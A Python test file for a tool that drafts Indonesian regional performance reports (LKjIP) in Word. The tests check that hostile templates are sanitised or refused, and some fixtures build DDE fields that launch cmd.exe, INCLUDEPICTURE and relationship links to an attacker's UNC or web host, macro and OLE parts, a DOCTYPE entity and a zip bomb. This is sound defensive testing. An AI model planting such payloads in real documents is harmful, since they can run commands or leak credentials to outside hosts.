"""The Word draft against hostile or careless input (issue 19), and a draft of part of the year: the
document opens, shows the text literally, carries its warnings, and memory stays bounded."""

from __future__ import annotations

import io
import re
import subprocess
import sys
import zipfile
from pathlib import Path

import docx
import pytest
from click.testing import CliRunner
from fixtures import set_cells
from test_laporan import check_document, full_text, tables_by_caption

from lkjip_xls.api import analyse
from lkjip_xls.cli import main
from lkjip_xls.issues import UserError
from lkjip_xls.report import report_bytes

MARKER = "#LKJIP-TABEL-0#"


def test_text_that_looks_like_a_table_marker_stays_text(example_copy):
    """The OPD name, a kalimat and a template paragraph all carrying the old internal table marker."""
    set_cells(example_copy / "PK.xlsx", "Identitas", {"B4": f"Kecamatan Bareng {MARKER}"})
    (example_copy / "kalimat_laporan.toml").write_text(  # (a kalimat may hold no digit: the marker without it)
        '[bab2]\niku_definisi = "Definisi IKU #LKJIP-TABEL-# adalah sebagai berikut."\n', encoding="utf-8")
    template = docx.Document()
    template.add_paragraph(f"KOP SURAT {MARKER}")
    template.save(example_copy / "templat_laporan.docx")
    result = analyse(example_copy, 12)
    data = report_bytes(result, example_copy)
    _, document = check_document(result, data, example_copy)
    text = full_text(document)
    assert text.count(MARKER) >= 2 and "#LKJIP-TABEL-#" in text  # shown literally where it was typed
    assert text.index("KOP SURAT") < text.index("BAB I")  # the template's paragraph stays first
    tables = tables_by_caption(document)
    assert "2.1" in tables and "3.1" in tables  # every table in its place, none moved to the cover


@pytest.mark.parametrize("char", ["\u000b", "\u0000", "\u001f"])
def test_a_control_character_in_a_kalimat_is_named(example_copy, char):
    (example_copy / "kalimat_laporan.toml").write_text(
        f'[bab4]\nbutir = "{{nomor}}. {{indikator}}:{char} capaian {{capaian}}%."\n'.replace("\u0000", "\\u0000"),
        encoding="utf-8")
    result = analyse(example_copy, 12)
    with pytest.raises(UserError) as info:
        report_bytes(result, example_copy)
    message = info.value.message
    assert "kalimat_laporan.toml" in message and "[bab4] butir" in message and "karakter kendali" in message


def test_a_control_character_in_a_catatan_is_named_at_its_cell_and_the_draft_is_written(tmp_path):
    from conftest import make_folder

    def edit(data):
        data["realisasi"]["Catatan"][1]["pendorong"] = "Pelayanan\u000bberjalan baik"
    folder = make_folder(tmp_path, edit)
    result = analyse(folder, 12)
    named = [i for i in result.issues if i.sheet == "Catatan"]
    assert named and "tak terlihat" in named[0].message and named[0].cell
    document = docx.Document(io.BytesIO(report_bytes(result, folder)))
    assert "Pelayananberjalan baik" in full_text(document) or "Pelayanan berjalan baik" in full_text(document)


def _template_with_macros_and_links(path: Path):
    base = io.BytesIO()
    docx.Document().save(base)
    src = zipfile.ZipFile(base)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as dest:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename == "word/_rels/document.xml.rels":
                data = data.replace(b"</Relationships>", b'<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/'
                                    b'office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>')
            if item.filename == "word/settings.xml":
                data = data.replace(b"<w:zoom", b'<w:attachedTemplate r:id="rIdT"/><w:zoom', 1)
            dest.writestr(item, data)
        dest.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 macro project")
        dest.writestr("word/_rels/settings.xml.rels",
                      '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.'
                      'openxmlformats.org/package/2006/relationships"><Relationship Id="rIdT" Type="http://schemas.'
                      'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
                      'Target="http://contoh.invalid/templat.dotm" TargetMode="External"/></Relationships>')


def test_template_macros_external_links_and_attached_template_are_not_carried_over(example_copy):
    _template_with_macros_and_links(example_copy / "templat_laporan.docx")
    result = analyse(example_copy, 12)
    out = zipfile.ZipFile(io.BytesIO(report_bytes(result, example_copy)))
    names = out.namelist()
    assert not any("vba" in n.lower() for n in names)
    everything = b"".join(out.read(n) for n in names if n.endswith((".rels", ".xml")))
    assert b"TargetMode=\"External\"" not in everything and b"attachedTemplate" not in everything
    assert b"contoh.invalid" not in everything
    docx.Document(out.fp)  # it opens


def test_a_docx_bomb_as_template_is_refused_within_bounded_memory(example_copy, tmp_path):
    bomb = example_copy / "templat_laporan.docx"
    base = io.BytesIO()
    docx.Document().save(base)
    src = zipfile.ZipFile(base)
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as dest:
        for item in src.infolist():
            dest.writestr(item, src.read(item.filename))
        with dest.open("word/media/image1.png", "w") as fh:  # 400 MB of zeros in a few hundred KB
            chunk = b"\0" * 2**20
            for _ in range(400):
                fh.write(chunk)
    assert bomb.stat().st_size < 3 * 2**20
    code = ("import resource, sys\nfrom lkjip_xls.cli import main\n"
            "try:\n    main(['laporan', sys.argv[1], '--output', sys.argv[2]])\n"
            "except SystemExit as e:\n    code = e.code\n"
            "print('peak', resource.getrusage(resource.RUSAGE_SELF).ru_maxrss)\nsys.exit(code)")
    def peak(folder: Path, out: Path) -> tuple[int, str]:
        r = subprocess.run([sys.executable, "-c", code, str(folder), str(out)], capture_output=True, text=True,
                           timeout=600)
        return int(r.stdout.split("peak")[-1].split()[0]), r.stdout + r.stderr if r.returncode == 1 else ""

    bomb_peak, said = peak(example_copy, tmp_path / "out")
    assert "terlalu besar" in said
    plain = tmp_path / "plain"
    plain.mkdir()
    for p in example_copy.glob("*.xlsx"):
        (plain / p.name).write_bytes(p.read_bytes())
    baseline, _ = peak(plain, tmp_path / "out-plain")  # the same command, drafting for real
    assert bomb_peak < baseline + 50 * 1024  # refused before anything of the 400 MB is inflated
    assert not (tmp_path / "out" / "LKjIP_Kecamatan_Bareng_2024.docx").exists()


def test_a_draft_of_part_of_the_year_says_so_and_never_replaces_the_annual_one(example_copy, tmp_path):
    out = tmp_path / "out"
    assert CliRunner().invoke(main, ["laporan", str(example_copy), "--output", str(out)]).exit_code == 0
    annual = (out / "LKjIP_Kecamatan_Bareng_2024.docx").read_bytes()
    r = CliRunner().invoke(main, ["laporan", str(example_copy), "--output", str(out), "--bulan", "Maret"])
    assert r.exit_code == 0, r.output
    assert (out / "LKjIP_Kecamatan_Bareng_2024.docx").read_bytes() == annual
    document = docx.Document(out / "LKjIP_Kecamatan_Bareng_2024_sd_Maret.docx")
    paragraphs = [p for p in document.paragraphs if p.text.strip()]
    assert any(p.text == "DATA S.D. MARET" for p in paragraphs[:8])  # on the cover
    first = next(k for k, p in enumerate(paragraphs) if p.text.startswith("Catatan untuk penyusun"))
    notes = paragraphs[first:first + 4]
    assert all(run.font.highlight_color is not None for p in notes for run in p.runs)
    assert any("s.d. Maret 2024, belum setahun penuh" in p.text for p in notes)
    bab1 = next(k for k, p in enumerate(paragraphs) if p.text.startswith("BAB I"))
    assert first < bab1  # before the report itself


def test_the_body_names_no_software_and_differences_are_points(result12):
    document = docx.Document(io.BytesIO(report_bytes(result12)))
    paragraphs = [p.text for p in document.paragraphs]
    cover_note = next(k for k, t in enumerate(paragraphs) if t.startswith("Draf disusun"))
    # notes to staff are highlighted (not printed): the warnings page names the cells to mend, workbook and all
    printed = [p.text for p in document.paragraphs[cover_note + 1:]
               if not (p.runs and all(run.font.highlight_color is not None for run in p.runs))]
    assert any(".xlsx" in p.text for p in document.paragraphs[cover_note + 1:])  # the example's AKIP warning
    body = "\n".join(printed)
    software = re.compile(r"lkjip[-_ ]?xls|lkjip (proses|laporan|siapkan)|\.xlsx", re.I)
    assert not software.search(body)
    for table in document.tables:
        for row in table.rows:
            assert not any(software.search(c.text) for c in row.cells)
    assert "lebih rendah 10,60 poin" in body  # AKIP against the provinsi (84,19)
    assert "selisih -" not in body
    note = document.paragraphs[cover_note]
    assert all(run.font.highlight_color is not None for run in note.runs)  # not to be printed


# Active content in a template (issue 33): every spelling of it, removed on the parsed tree --------------

W_NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R_NS = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'


def _run(text: str, instr: bool = False) -> str:
    tag = "w:instrText" if instr else "w:t"
    return f'<w:r><{tag} xml:space="preserve">{text}</{tag}></w:r>'


def _fld(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


HOSTILE_BODY = {
    "dde terbelah": "<w:p>" + _fld("begin") + _run(" DDE", True) + _run('AUTO c:\\\\windows\\\\system32\\\\cmd.exe '
                    '"/k calc"', True) + _fld("separate") + _run("teks lama") + _fld("end") + "</w:p>",
    "dde rujukan karakter": "<w:p>" + _fld("begin") + _run(" &#68;DEAUTO cmd \"/c calc\"", True) + _fld("end") + "</w:p>",
    "dde fldSimple": '<w:p><w:fldSimple w:instr=" DDEAUTO cmd &quot;/c calc&quot;">' + _run("tampil") + "</w:fldSimple></w:p>",
    "includepicture unc terbelah": "<w:p>" + _fld("begin") + _run(" INCLUDEPIC", True) + _run('TURE "\\\\\\\\penyerang'
                                   '\\\\berbagi\\\\a.png" \\\\d', True) + _fld("separate") + _fld("end") + "</w:p>",
}


def _hostile_template(path: Path, body: str = "", rels: str = "", settings_rels: str = "", extra: dict | None = None,
                      settings: str = "", encode=None):
    base = io.BytesIO()
    docx.Document().save(base)
    src = zipfile.ZipFile(base)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as dest:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename == "word/document.xml":
                data = data.replace(b"<w:body>", b"<w:body>" + body.encode(), 1)
                if encode:
                    data = encode(data)
            if item.filename == "word/_rels/document.xml.rels" and rels:
                data = data.replace(b"</Relationships>", rels.encode() + b"</Relationships>")
            if item.filename == "word/settings.xml" and settings:
                data = data.replace(b"<w:zoom", settings.encode() + b"<w:zoom", 1)
            dest.writestr(item, data)
        if settings_rels:
            dest.writestr("word/_rels/settings.xml.rels",
                          '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.'
                          f'openxmlformats.org/package/2006/relationships">{settings_rels}</Relationships>')
        for name, data in (extra or {}).items():
            dest.writestr(name, data)


def _draft_parts(folder: Path) -> dict[str, bytes]:
    out = zipfile.ZipFile(io.BytesIO(report_bytes(analyse(folder, 12), folder)))
    parts = {n: out.read(n) for n in out.namelist()}
    docx.Document(io.BytesIO(report_bytes(analyse(folder, 12), folder)))  # it opens
    return parts


def _instructions(parts: dict[str, bytes]) -> list[str]:
    from lxml import etree

    w = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
    found = []
    for name, data in parts.items():
        if name.startswith("word/") and name.endswith(".xml"):
            root = etree.fromstring(data)
            found += [t.text or "" for t in root.iter(f"{w}instrText")]
            found += [e.get(f"{w}instr") or "" for e in root.iter(f"{w}fldSimple")]
    return found


@pytest.mark.parametrize("case", list(HOSTILE_BODY))
def test_a_field_that_fetches_or_runs_is_emptied_however_it_is_written(example_copy, case):
    _hostile_template(example_copy / "templat_laporan.docx", HOSTILE_BODY[case])
    parts = _draft_parts(example_copy)
    joined = " ".join(_instructions(parts)).upper()
    assert "DDE" not in joined and "INCLUDEPICTURE" not in joined and "PENYERANG" not in joined, joined
    assert any(i.strip().upper().startswith("TOC") for i in _instructions(parts))  # our own fields stay


RELS = {
    "petik tunggal": "<Relationship Id='rIdX' Type='http://schemas.openxmlformats.org/officeDocument/2006/"
                     "relationships/image' Target='http://penyerang.invalid/a.png' TargetMode='External'/>",
    "tag penutup": '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
                   'hyperlink" Target="file://penyerang.invalid/x" TargetMode="External"></Relationship>',
    "huruf kecil": '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
                   'image" Target="\\\\penyerang.invalid\\a.png" TargetMode="external"/>',
}


@pytest.mark.parametrize("case", list(RELS))
def test_an_external_relationship_of_any_spelling_is_removed(example_copy, case):
    body = ('<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/'
            'wordprocessingDrawing"><wp:extent cx="10" cy="10"/><wp:docPr id="9" name="x"/><a:graphic '
            'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData uri="http://schemas.'
            'openxmlformats.org/drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/'
            'drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="9" name="x"/><pic:cNvPicPr/></pic:nvPicPr>'
            '<pic:blipFill><a:blip r:link="rIdX"/></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic>'
            '</wp:inline></w:drawing></w:r></w:p>')
    _hostile_template(example_copy / "templat_laporan.docx", body, rels=RELS[case])
    parts = _draft_parts(example_copy)
    everything = b"".join(v for k, v in parts.items() if k.endswith((".rels", ".xml"))).lower()
    assert b"penyerang" not in everything and b"external" not in everything
    assert b'r:link="ridx"' not in everything  # no dangling reference to the removed relationship


def test_an_attached_template_on_a_unc_path_altchunk_and_ole_are_not_carried(example_copy):
    rels = ('<Relationship Id="rIdC" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk" '
            'Target="afchunk.mht"/><Relationship Id="rIdO" Type="http://schemas.openxmlformats.org/officeDocument/'
            '2006/relationships/oleObject" Target="embeddings/oleObject1.bin"/>')
    body = ('<w:altChunk r:id="rIdC"/><w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:'
            'office" Type="Embed" ProgID="Package" r:id="rIdO"/></w:object></w:r></w:p>')
    _hostile_template(example_copy / "templat_laporan.docx", body, rels=rels,
                      settings='<w:attachedTemplate r:id="rIdT"/>',
                      settings_rels='<Relationship Id="rIdT" Type="http://schemas.openxmlformats.org/officeDocument/'
                                    '2006/relationships/attachedTemplate" Target="\\\\penyerang\\t.dotm"/>',
                      extra={"word/afchunk.mht": b"MIME-Version: 1.0\r\n\r\n<script>x</script>",
                             "word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0 package"})
    parts = _draft_parts(example_copy)
    assert not [n for n in parts if "embeddings" in n or "afchunk" in n.lower()]
    everything = b"".join(v for k, v in parts.items() if k.endswith((".rels", ".xml")))
    for word in (b"altChunk", b"OLEObject", b"attachedTemplate", b"penyerang", b"aFChunk", b"oleObject"):
        assert word not in everything, word


def test_a_doctype_in_a_template_is_refused_with_a_message(example_copy, tmp_path):
    _hostile_template(example_copy / "templat_laporan.docx",
                      encode=lambda data: data.replace(b"?>", b'?><!DOCTYPE x [<!ENTITY e "x">]>', 1))
    r = CliRunner().invoke(main, ["laporan", str(example_copy), "--output", str(tmp_path / "out")])
    assert r.exit_code == 1 and "DOCTYPE" in r.output and "templat_laporan.docx" in r.output, r.output
    assert "Traceback" not in r.output and not list((tmp_path / "out").rglob("*.docx"))


def test_a_template_part_in_utf16_is_read(example_copy):
    def utf16(data: bytes) -> bytes:
        text = data.decode("utf-8").replace('encoding="UTF-8"', 'encoding="UTF-16"')
        return text.encode("utf-16")

    _hostile_template(example_copy / "templat_laporan.docx", "<w:p>" + _run("Kop Kecamatan") + "</w:p>", encode=utf16)
    parts = _draft_parts(example_copy)
    assert b"Kop Kecamatan" in parts["word/document.xml"]


def test_a_draft_of_part_of_the_year_says_the_month_everywhere_and_its_counts_add_up(example_copy, tmp_path):
    """Header, Kata Pengantar, captions and BAB IV say "s.d. Maret"; the counts of IKU and indicators
    are of all of them and add up (those without data counted as such); no SiLPA before December."""
    out = tmp_path / "out"
    r = CliRunner().invoke(main, ["laporan", str(example_copy), "--output", str(out), "--bulan", "3"])
    assert r.exit_code == 0, r.output
    document = docx.Document(out / "LKjIP_Kecamatan_Bareng_2024_sd_Maret.docx")
    assert all(p.text == "LKjIP Kecamatan Bareng Tahun 2024 (Data s.d. Maret)"
               for s in document.sections for p in s.header.paragraphs if p.text)
    texts = [p.text for p in document.paragraphs]
    pengantar = texts[texts.index("KATA PENGANTAR") + 1]
    assert "s.d. Maret 2024" in pengantar and "selama tahun 2024" not in pengantar
    captions = [t for t in texts if re.match(r"Tabel [23L]\.\d+ ", t)]
    assert captions and all(t.endswith("(s.d. Maret)") or "(s.d. Maret) (lanjutan, bagian" in t
                            for t in captions), captions[:5]
    result = analyse(example_copy, 3)
    n_iku = len(result.period.iku)
    line = next(t for t in texts if t.startswith("Dari ") and " IKU, " in t)
    numbers = [int(x) for x in re.findall(r"(\d+) IKU", line)]
    assert numbers[0] == n_iku and sum(numbers[1:]) == n_iku, line
    line = next(t for t in texts if t.startswith("Dari ") and "indikator program" in t)
    first, *rest = (int(x) for x in re.findall(r"(\d+) (?:indikator|sangat|menunjang|kurang)", line))
    rows = result.tables["3.10"].frame
    assert first == int(rows["kind"].isin(["program", "kegiatan", "sub"]).sum()) == sum(rest), line
    body = " ".join(texts[texts.index("KATA PENGANTAR"):])
    assert "SiLPA" not in body.replace("belum SiLPA", "")
    bab4 = " ".join(texts[max(k for k, t in enumerate(texts) if t.startswith("BAB IV")):])
    assert "terealisasi s.d. Maret 2024" in bab4


def _core(data: bytes) -> dict[str, str]:
    from lxml import etree

    root = etree.fromstring(data)
    return {el.tag.rsplit("}", 1)[-1]: (el.text or "") for el in root}


def test_the_documents_own_properties_name_the_office_and_the_run(example_copy, tmp_path):
    """File › Info of the draft, the results workbook and the Rekap: the title, the office (Bappeda for
    the Rekap) as author, the run's day or time; no program name, no template date."""
    import datetime as dt

    from lkjip_xls.run import process, write_rekap

    out = tmp_path / "out"
    assert CliRunner().invoke(main, ["laporan", str(example_copy), "--output", str(out)]).exit_code == 0
    draft = zipfile.ZipFile(out / "LKjIP_Kecamatan_Bareng_2024.docx")
    core = _core(draft.read("docProps/core.xml"))
    assert core["creator"] == core["lastModifiedBy"] == "Kecamatan Bareng"
    assert core["title"] == "LKjIP Kecamatan Bareng 2024" and core["description"] == ""
    assert core["created"][:10] == dt.datetime.now(dt.timezone.utc).date().isoformat()
    app = draft.read("docProps/app.xml")
    everything = draft.read("docProps/core.xml") + app
    for word in (b"lkjip", b"python-docx", b"2013-12-23", b"Macintosh", b"Normal.dotm"):
        assert word not in everything, word
    today = dt.date(2025, 1, 10)
    results = process(example_copy, 12, tmp_path / "hasil", today=today).path
    core = _core(zipfile.ZipFile(results).read("docProps/core.xml"))
    assert core["creator"] == "Kecamatan Bareng" and core["created"].startswith("2025-01-10")
    assert "lkjip-xls" not in " ".join(core.values()).lower()
    box = tmp_path / "box"
    box.mkdir()
    (box / results.name).write_bytes(results.read_bytes())
    _, rekap = write_rekap(box, None, tmp_path / "rekap")
    core = _core(zipfile.ZipFile(rekap).read("docProps/core.xml"))
    assert core["creator"] == "Bappeda Kabupaten Jombang" and "lkjip-xls" not in core.get("description", "")


def test_settings_follow_the_schema_order(example_copy, tmp_path):
    """ECMA-376 CT_Settings is a sequence: w:updateFields before w:compat and the rest."""
    from lxml import etree

    from lkjip_xls.report.word import AFTER_UPDATE_FIELDS

    parts = _draft_parts(example_copy)
    names = [el.tag.rsplit("}", 1)[-1] for el in etree.fromstring(parts["word/settings.xml"])]
    at = names.index("updateFields")
    assert not set(names[:at]) & set(AFTER_UPDATE_FIELDS), names
    assert names[at + 1] in AFTER_UPDATE_FIELDS or names[at + 1] in ("docId", "defaultImageDpi")
